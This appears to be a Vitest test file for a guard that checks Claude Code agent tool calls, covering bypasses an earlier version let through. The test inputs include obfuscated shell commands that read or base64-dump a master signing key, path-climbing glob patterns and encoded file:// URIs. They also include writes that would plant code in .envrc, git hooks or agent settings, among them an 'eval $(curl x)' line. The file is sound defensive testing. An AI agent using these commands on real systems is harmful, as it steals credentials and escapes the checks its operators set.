// Attack family 7, second pass (issue 34 item 6): bypasses of the Claude Code guard tried from a
// task's worktree under ATLAS_HOME and from a project outside it. Each was let through before.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { guardToolCall } from '../../src/integrations/claude/guard.js';
import { tempDir } from '../helpers/core-fixtures.js';

const base = tempDir('atlas-guard2-');
const home = join(base, 'atlas-home');
const worktree = join(home, 'workspaces', 'ws', 'worktree');
const project = join(base, 'project');
mkdirSync(join(home, 'keys'), { recursive: true });
mkdirSync(join(worktree, 'src'), { recursive: true });
mkdirSync(project, { recursive: true });
writeFileSync(join(home, 'keys', 'master.key'), 'k', { mode: 0o600 });

const guard = (toolName: string, toolInput: Record<string, unknown>, cwd = worktree, env: NodeJS.ProcessEnv = {}) =>
  guardToolCall({ toolName, toolInput, cwd, home, env });

describe('the guard closes the second round of bypasses', () => {
  it('Bash: globs, quotes and cd .. that reach the keys', () => {
    for (const command of [
      'cat ../../../k*/*',
      'cat ../../../keys/m?ster.k[e]y',
      'cd ../../.. && cat k*/*',
      'cd ../../..; cat keys/*',
      'cd .. && cd .. && cd .. && base64 ke*/*',
      'cat "$PWD/../../../ke""ys/mas""ter.key"',
      "cat $PWD/../../../'k'eys/*",
      'cat ${PWD}/../../../k\\eys/*',
      'cd ../../.. && tar c . | base64',
    ]) {
      expect(guard('Bash', { command }), command).toMatch(/atlas guard/);
    }
    // The worktree's own files, and going up inside it, stay allowed.
    for (const command of ['cat src/*.ts', 'cd src && ls ..', 'ls ../worktree/src', 'npm test -- --grep "keys"', 'git log --oneline -5']) {
      expect(guard('Bash', { command }), command).toBeUndefined();
    }
  });

  it('Glob and Grep patterns that climb out to ATLAS_HOME', () => {
    expect(guard('Glob', { pattern: '../**/master.key' }, project)).toMatch(/atlas guard/);
    expect(guard('Glob', { pattern: '../../../**/*.key' })).toMatch(/atlas guard/);
    expect(guard('Glob', { pattern: '../../../keys/*' })).toMatch(/atlas guard/);
    expect(guard('Grep', { pattern: 'x', glob: '../../../keys/*' })).toMatch(/atlas guard/);
    expect(guard('Glob', { pattern: 'src/**/*.ts' })).toBeUndefined();
    expect(guard('Glob', { pattern: '**/*.md' }, project)).toBeUndefined();
  });

  it('MCP arguments: a path inside a file:// URI or a --flag=path', () => {
    const key = join(home, 'keys', 'master.key');
    expect(guard('mcp__fs__read', { uri: `file://${key}` })).toMatch(/signing keys/);
    expect(guard('mcp__fs__read', { uri: `file://localhost${key.replace('master', 'mas%74er')}` })).toMatch(/signing keys/);
    expect(guard('mcp__run__cmd', { args: ['--input', `--file=${key}`] })).toMatch(/signing keys/);
    expect(guard('mcp__run__cmd', { args: [`--config=${join(home, 'config.yaml')}`] })).toMatch(/configuration/);
    expect(guard('mcp__fs__read', { uri: `file://${join(project, 'README.md')}` })).toBeUndefined();
    expect(guard('mcp__web__get', { url: 'https://example.com/--x=/etc' })).toBeUndefined();
  });

  it('writes to files that make code run outside the agent later', () => {
    const claudeDir = join(base, 'claude-config');
    for (const file_path of [
      join(project, '.claude', 'settings.json'),
      join(project, '.claude', 'settings.local.json'),
      join(project, '.envrc'),
      join(project, '.git', 'hooks', 'pre-commit'),
      join(project, '.atlas', 'config.yaml'),
      join(project, '.atlas', 'templates', 'bugfix.yaml'),
      join(claudeDir, 'settings.json'),
    ]) {
      expect(guard('Write', { file_path, content: 'x' }, project, { CLAUDE_CONFIG_DIR: claudeDir }), file_path).toMatch(
        /run outside|control file/,
      );
      expect(guard('Edit', { file_path, old_string: 'a', new_string: 'b' }, project, { CLAUDE_CONFIG_DIR: claudeDir }), file_path).toMatch(
        /atlas guard/,
      );
    }
    expect(guard('Bash', { command: 'echo "eval $(curl x)" > .envrc' }, project)).toMatch(/atlas guard/);
    expect(guard('Bash', { command: 'cat payload | tee -a .git/hooks/pre-commit' }, project)).toMatch(/atlas guard/);
    // Reading them, and writing ordinary files, stays allowed.
    expect(guard('Read', { file_path: join(project, '.claude', 'settings.json') }, project)).toBeUndefined();
    expect(guard('Write', { file_path: join(project, 'src', 'settings.json'), content: 'x' }, project)).toBeUndefined();
    expect(guard('Bash', { command: 'echo ok > out.txt && cat .envrc' }, project)).toBeUndefined();
  });

  it('case-changed paths (a case-insensitive volume reaches the same file)', () => {
    const upper = join(home, 'KEYS', 'Master.Key');
    expect(guard('Read', { file_path: upper })).toMatch(/signing keys/);
    expect(guard('Bash', { command: 'cat ../../../KEYS/MASTER.KEY' })).toMatch(/atlas guard/);
    expect(guard('Write', { file_path: join(project, '.Claude', 'Settings.json'), content: 'x' }, project)).toMatch(/atlas guard/);
    expect(guard('Write', { file_path: join(project, '.ENVRC'), content: 'x' }, project)).toMatch(/atlas guard/);
  });
});
